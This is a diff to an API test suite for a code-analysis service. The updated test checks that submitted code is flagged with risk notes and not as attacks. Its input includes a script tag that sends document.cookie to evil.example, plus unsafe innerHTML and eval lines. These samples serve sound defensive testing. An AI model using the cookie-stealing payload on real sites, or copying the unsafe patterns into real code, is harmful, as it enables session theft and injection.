@@ -260,15 +260,20 @@ describe('analyses API (real engine, fake providers, real Redis)', () => {
         expect([first.body.id, again.body.id]).not.toContain(await t.redis.client.get(key));
   });
 
-  it('accepts code in the content and flags it in the result', async () => {
-    const content = `Is this safe?\n<script>document.location='http://evil.example/?c='+document.cookie</script>\n${marker()}`;
+  it('accepts code in the content and notes its risks in the result, never as attempts', async () => {
+    const content = `Is this safe?\n\`\`\`js\nel.innerHTML = params.get('q');\nconst r = eval(params.get('f'));\n<script>document.location='http://evil.example/?c='+document.cookie</script>\n\`\`\`\n${marker()}`;
     const res = await create(analyst, { content, cache: false }, '?wait=30');
     expect(res.status).toBe(200);
     expect(res.body.status).toBe('completed');
     const flags = res.body.result.security.flags.filter(
       (f: { source: string }) => f.source === 'request',
     );
-    expect(flags.length).toBeGreaterThan(0);
+    expect(flags).toEqual(
+      expect.arrayContaining([
+        expect.objectContaining({ rule: 'risk.eval', kind: 'risk', action: 'note' }),
+      ]),
+    );
+    expect(flags.filter((f: { kind: string }) => f.kind === 'attempt')).toEqual([]);
     expect(res.body.result.security.deniedOperations).toEqual(['write', 'execute', 'modify']);
   });
 
